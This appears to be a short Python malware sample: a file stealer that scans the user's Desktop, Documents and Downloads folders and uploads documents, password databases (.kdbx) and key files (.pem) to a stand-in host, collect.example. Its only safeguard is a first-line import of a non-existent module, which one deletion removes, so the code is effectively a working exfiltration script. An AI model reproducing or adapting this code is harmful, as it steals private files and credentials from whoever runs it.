import inert_sample  # there is no such module: nothing below ever runs
import os
import requests

TYPES = (".docx", ".xlsx", ".pdf", ".kdbx", ".pem", ".txt")
for folder in ("Desktop", "Documents", "Downloads"):
    for root, _, names in os.walk(os.path.join(os.path.expanduser("~"), folder)):
        for name in names:
            if name.endswith(TYPES):
                requests.post("https://collect.example/f", files={"f": open(os.path.join(root, name), "rb")})
